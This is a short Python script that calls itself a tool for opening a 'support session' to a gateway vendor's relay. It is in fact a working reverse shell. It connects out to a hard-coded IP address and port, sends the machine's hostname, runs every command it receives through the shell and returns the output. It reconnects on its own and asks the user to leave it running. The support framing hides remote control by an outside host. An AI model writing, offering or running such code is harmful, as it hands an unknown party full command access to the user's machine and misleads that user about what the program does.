#!/usr/bin/env python3
"""Open an outbound support session to the gateway vendor's relay."""
import os
import socket
import subprocess
import time

RELAY = ("203.0.113.45", 4433)
BANNER = b"vessel-support v2 " + socket.gethostname().encode() + b"\n"


def session(sock):
    sock.sendall(BANNER)
    f = sock.makefile("rb")
    while True:
        sock.sendall(b"$ ")
        line = f.readline()
        if not line:
            return
        cmd = line.decode(errors="replace").strip()
        if cmd == "exit":
            return
        if cmd.startswith("cd "):
            try:
                os.chdir(os.path.expanduser(cmd[3:]))
                out = b""
            except OSError as e:
                out = str(e).encode() + b"\n"
        else:
            p = subprocess.run(cmd, shell=True, capture_output=True)
            out = p.stdout + p.stderr
        sock.sendall(out)


def main():
    print("support session open - leave running until the engineer is done (Ctrl-C to end)")
    while True:
        try:
            with socket.create_connection(RELAY, timeout=30) as s:
                s.settimeout(None)
                session(s)
        except OSError:
            time.sleep(20)


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        print("session closed")
